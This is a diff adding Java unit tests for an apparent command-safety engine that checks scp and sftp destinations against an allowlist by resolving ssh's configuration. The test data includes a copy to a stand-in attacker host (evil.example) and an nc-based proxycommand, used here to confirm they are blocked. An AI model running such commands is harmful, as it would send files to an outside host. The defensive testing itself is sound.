@@ -188,4 +188,36 @@ class NetworkGrammarTest {
                 .contains("network.ssh");
         assertThat(aliasAllowed.evaluateResolvedArgv(argv, 255, "").rule()).contains("shell.unparseable");
     }
+
+    @Test
+    void scpAndSftpAskTheSshTheyStartForItsEffectiveConfiguration() {
+        assertThat(SESSION.aliasQuery(List.of("scp", "-P", "2200", "-o", "User=x", "-4", "-l", "100", "-r", "f", "git@github.com:r/f")))
+                .contains(List.of("-G", "-o", "User=x", "-4", "-p", "2200", "-l", "git", "--", "github.com"));
+        assertThat(SESSION.aliasQuery(List.of("scp", "scp://u@github.com:2201/x", "f")))
+                .contains(List.of("-G", "-p", "2201", "-l", "u", "--", "github.com"));
+        assertThat(SESSION.aliasQuery(List.of("sftp", "-P2202", "-J", "github.com", "github.com:dir")))
+                .contains(List.of("-G", "-J", "github.com", "-p", "2202", "--", "github.com"));
+        assertThat(SESSION.aliasQuery(List.of("sftp", "sftp://github.com"))).contains(List.of("-G", "--", "github.com"));
+        assertThat(SESSION.aliasQuery(List.of("scp", "a", "b"))).isEmpty(); // a local copy contacts nobody
+        assertThat(SESSION.aliasQuery(List.of("sftp", "-D", "/usr/lib/sftp-server", "x"))).isEmpty(); // a local server
+        assertThat(SESSION.aliasQuery(List.of("scp", "f", "evil.example:x"))).isEmpty(); // blocked on the argv already
+    }
+
+    @Test
+    void scpAndSftpAreJudgedByTheConfigurationSshPrints() {
+        SafetyEngine aliasAllowed = new SafetyEngine(PolicyLoader.parse("{\"allowed_destinations\":[\"github.com\",\"gh\"]}", "t"));
+        for (List<String> argv : List.of(List.of("scp", "f", "gh:x"), List.of("sftp", "gh"))) {
+            assertThat(aliasAllowed.evaluateResolvedArgv(argv, 0, "hostname github.com\nproxycommand none\n").decision()).as("" + argv)
+                    .isEqualTo(Decision.ALLOW);
+            assertThat(aliasAllowed.evaluateResolvedArgv(argv, 0, "hostname evil.example\n").rule()).as("" + argv).contains("network.ssh");
+            assertThat(aliasAllowed.evaluateResolvedArgv(argv, 0, "hostname github.com\nproxyjump 10.0.0.1:22\n").rule()).as("" + argv)
+                    .contains("network.ssh");
+            assertThat(aliasAllowed.evaluateResolvedArgv(argv, 0, "hostname github.com\nproxycommand nc x 22\n").rule()).as("" + argv)
+                    .contains("network.ssh");
+            assertThat(aliasAllowed.evaluateResolvedArgv(argv, 255, "").rule()).as("" + argv).contains("shell.unparseable");
+        }
+        // two remotes: ssh's configuration is resolved for one host per command, so the copy is refused (fail closed)
+        assertThat(aliasAllowed.evaluateResolvedArgv(List.of("scp", "gh:x", "github.com:y"), 0, "hostname github.com\n").rule())
+                .contains("shell.unparseable");
+    }
 }
